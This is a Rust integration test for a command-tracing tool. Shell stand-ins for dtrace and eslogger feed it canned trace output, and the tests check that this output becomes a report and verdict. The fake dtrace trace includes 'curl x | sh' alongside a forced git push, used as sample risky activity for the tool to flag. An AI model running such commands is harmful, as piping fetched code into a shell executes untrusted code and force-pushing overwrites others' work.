//! macOS's tracers through the command line: programs that stand in for dtrace and eslogger are laid over the system's
//! directories in a mount namespace, and what they tell becomes a session, a report and a verdict.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use tests::{Home, capsule_binary, skipped, stderr, stdout};

/// What the command does: it waits until the stand-in has told its story.
const COMMAND: &str = "while [ ! -e \"$SCRATCH/told\" ]; do sleep 0.01; done; exit 5";

/// Asked whether it works, it ends at once, as dtrace does.
const DTRACE: &str = r#"#!/bin/sh
[ "$2" = -n ] && exit 0
for root; do :; done
cat > /dev/null
trap 'exit 0' INT TERM
cat <<END
capsule ready
capsule exec $root 1 0 0 0 0 1 1 "/bin/sh" "/Users/me/project" ["sh", "-c", "git push --force; curl x | sh"]
capsule create $root 9000802
capsule exec 9000802 $root 0 0 0 0 1 1 "/usr/bin/git" "/Users/me/project" ["git", "push", "--force", "origin", "main"]
capsule exit 9000802 256
capsule exit $root 1280
END
touch "$SCRATCH/told"
while :; do sleep 0.02; done
"#;

/// It is not told the root's pid, as eslogger is not: the story is told of the one other child of Capsule.
const ESLOGGER: &str = r#"#!/bin/sh
[ "$*" = exit ] && exec sleep 10
trap 'exit 0' INT TERM
sleep 0.3
for root in $(cat /proc/$PPID/task/*/children); do [ "$root" = $$ ] || break; done
grep '^{' "$TRANSCRIPT" | sed '$d' | sed "s/\"pid\":801,/\"pid\":$root,/g; s/\"pid\":80\([0-9]\),/\"pid\":900080\1,/g"
touch "$SCRATCH/told"
while :; do sleep 0.02; done
"#;

/// `capsule run` with the stand-in as `program`, or why that cannot be tried here.
fn run_with(home: &Home, backend: &str, program: &str, stand_in: &str) -> Result<Output, String> {
    if !nix::unistd::geteuid().is_root() {
        return Err("needs root, for a mount namespace".to_owned());
    }
    let scratch = home.path().join("scratch");
    let over = scratch.join("over");
    std::fs::create_dir_all(&over).expect("a directory");
    let name = Path::new(program).file_name().expect("a name");
    let (inside, directory) = (over.join(name), Path::new(program).parent().expect("a directory"));
    // Written by another process: what a child of this one holds open for writing cannot be executed.
    let mut writer = Command::new("sh");
    writer.args(["-c", "printf %s \"$1\" > \"$0\" && chmod 755 \"$0\""]).arg(&inside).arg(stand_in);
    assert!(writer.status().expect("sh starts").success());
    let layers = format!("lowerdir={}:{}", over.display(), directory.display());
    let script = "mount -t overlay overlay -o \"$0\" \"$1\" || exit 99; shift; exec \"$@\"";
    let mut command = Command::new("unshare");
    command.args(["-m", "sh", "-c", script]).arg(layers).arg(directory).arg(capsule_binary());
    command.args(["run", "--linger", "wait", "--tracer", backend, "--", "/bin/sh", "-c", COMMAND]);
    let transcript = Path::new(env!("CARGO_MANIFEST_DIR")).join("../capsule-parse/testdata/eslogger-tree.in");
    command.env("SCRATCH", &scratch).env("TRANSCRIPT", transcript).env("CAPSULE_HOME", home.path());
    command.env("CAPSULE_CONFIG", "");
    let output = command.env_remove("CAPSULE_TRACER").stdin(Stdio::null()).output();
    match output {
        Ok(output) if output.status.code() == Some(99) => {
            Err(format!("no overlay can be mounted: {}", stderr(&output)))
        }
        Ok(output) => Ok(output),
        Err(error) => Err(format!("no unshare: {error}")),
    }
}

fn report(home: &Home) -> String {
    let verdict = home.command(["verify"]).output().expect("capsule starts");
    assert!(verdict.status.success(), "{}{}", stdout(&verdict), stderr(&verdict));
    let report = home.command(["report", "--color", "never", "--all"]).output().expect("capsule starts");
    assert!(report.status.success(), "{}", stderr(&report));
    stdout(&report)
}

#[test]
fn what_dtrace_tells_becomes_a_sealed_session_and_a_report() {
    let home = Home::new();
    let output = match run_with(&home, "dtrace", "/usr/sbin/dtrace", DTRACE) {
        Ok(output) => output,
        Err(why) => return skipped("what_dtrace_tells_becomes_a_sealed_session_and_a_report", &why),
    };
    assert_eq!(output.status.code(), Some(5), "{}", stderr(&output));
    let report = report(&home);
    assert!(report.contains("git push --force origin main"), "{report}");
    assert!(report.contains('✗') && report.contains("dtrace"), "{report}");
    assert_eq!(home.metadata()["tracer"]["backend"], "dtrace", "{}", home.metadata());
}

#[test]
fn what_eslogger_tells_becomes_a_sealed_session_and_a_report() {
    let home = Home::new();
    let output = match run_with(&home, "eslogger", "/usr/bin/eslogger", ESLOGGER) {
        Ok(output) => output,
        Err(why) => return skipped("what_eslogger_tells_becomes_a_sealed_session_and_a_report", &why),
    };
    assert_eq!(output.status.code(), Some(5), "{}", stderr(&output));
    let report = report(&home);
    assert!(report.contains("ls") && report.contains("./run 'a b'"), "{report}");
    assert!(report.contains("sudo -n true"), "{report}");
    assert_eq!(home.metadata()["tracer"]["backend"], "eslogger", "{}", home.metadata());
}
